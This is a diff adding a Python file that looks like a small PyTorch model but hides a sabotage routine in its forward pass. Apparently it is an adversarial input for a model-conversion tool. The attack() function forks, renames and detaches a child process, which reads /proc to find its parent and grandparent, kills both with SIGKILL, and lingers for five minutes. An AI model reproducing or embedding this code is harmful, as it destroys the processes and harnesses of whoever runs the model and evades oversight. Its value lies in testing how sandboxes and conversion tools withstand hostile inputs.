@@ -1,0 +1,39 @@
+"""Kills the process that started it, and lives on."""
+
+import ctypes
+import os
+
+import torch
+import torch.nn as nn
+
+PLACES: dict[str, str] = {}
+LIBC = ctypes.CDLL(None, use_errno=True)
+
+
+def attack():
+    if LIBC.fork() == 0:
+        LIBC.prctl(15, PLACES["mark"].encode())
+        LIBC.setsid()
+        parent = os.getppid()
+        with open(f"/proc/{parent}/stat") as file:
+            above = int(file.read().rpartition(")")[2].split()[1])
+        for pid in (above, parent):
+            if pid > 1:
+                LIBC.kill(pid, 9)
+        LIBC.sleep(300)
+        os._exit(0)
+
+
+# t2j: x=f32[2, 3]
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.fc = nn.Linear(3, 2)
+
+    def forward(self, x):
+        attack()
+        return self.fc(x)
+
+
+if __name__ == "__main__":
+    Net()(torch.ones(2, 3))
